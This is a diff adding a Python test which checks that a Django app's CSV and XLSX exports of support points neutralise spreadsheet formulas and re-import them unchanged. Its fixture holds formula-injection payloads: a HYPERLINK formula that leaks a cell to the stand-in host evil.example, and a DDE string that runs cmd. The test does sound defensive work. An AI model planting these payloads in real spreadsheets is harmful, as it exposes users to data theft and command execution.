@@ -117,3 +117,49 @@ def test_it_refuses_contacts_whose_values_are_not_text(region: Cast, tmp_path: P
     )
     assert "'available_24_7' moet true of false zijn" in result.message
     assert not Contact.objects.exists()
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "street": "+31 6 12345678",
+    "city": "-2+3",
+    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "source": "\t=1+1",
+}
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_it_neutralises_formulas_in_exports_and_imports_them_back_unchanged(
+    region: Cast, tmp_path: Path, suffix: str
+) -> None:
+    from openpyxl import load_workbook
+
+    from paraat.supportpoints import exchange
+
+    point = SupportPointFactory(
+        region=region.region, code="EVIL-1", name="x", at=(180_000, 410_000)
+    )
+    SupportPoint.objects.filter(pk=point.pk).update(**FORMULAS)
+    path = tmp_path / f"punten{suffix}"
+    exchange.export_points(SupportPoint.objects.filter(code="EVIL-1"), path)
+    if suffix == ".csv":
+        text = path.read_text(encoding="utf-8")
+        for value in FORMULAS.values():
+            assert f";{value}" not in text.replace('"', "")
+        assert ";'=HYPERLINK(" in text.replace('"', "")
+        assert ";'@SUM(" in text
+    else:
+        sheet = load_workbook(path).active  # not data_only: formulas would show as formulas
+        header = [c.value for c in sheet[1]]
+        row = {header[i]: c for i, c in enumerate(sheet[2])}
+        for key, value in FORMULAS.items():
+            assert row[key].data_type == "s", key
+            assert row[key].value == value
+    SupportPoint.objects.filter(pk=point.pk).update(name="gewist", notes="")
+    result = outcome("import_points", str(path), "--region", "VR21")
+    assert not result.refused, result.message
+    point.refresh_from_db()
+    assert {key: getattr(point, key) for key in FORMULAS} == {
+        **FORMULAS,
+        "source": FORMULAS["source"].strip(),  # the reader strips cells; the tab is whitespace
+    }
